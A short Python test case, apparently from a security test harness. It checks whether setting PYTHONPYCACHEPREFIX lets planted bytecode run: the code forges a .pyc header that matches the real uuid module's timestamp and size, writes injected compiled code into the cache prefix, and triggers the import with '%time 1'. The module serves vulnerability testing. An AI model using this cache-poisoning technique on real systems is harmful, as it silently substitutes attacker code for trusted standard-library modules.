"""P2: PYTHONPYCACHEPREFIX leads to bytecode that somebody else compiled."""

import importlib.util
import marshal
import pathlib
import struct
import uuid

CONTROL = "loose"


def prepare(prey):

    source = pathlib.Path(uuid.__file__)
    code = compile(prey.module("uuid") + source.read_text(), str(source), "exec")
    status = source.stat()
    header = importlib.util.MAGIC_NUMBER + struct.pack(
        "<III", 0, int(status.st_mtime) & 0xFFFFFFFF, status.st_size & 0xFFFFFFFF
    )
    name = pathlib.Path(importlib.util.cache_from_source(str(source))).name
    target = prey.world.work / "cache" / str(source.parent).lstrip("/") / name
    target.parent.mkdir(parents=True)
    target.write_bytes(header + marshal.dumps(code))
    return {"env": {"PYTHONPYCACHEPREFIX": str(prey.world.work / "cache")}}


def attack(door):
    door.run("%time 1")
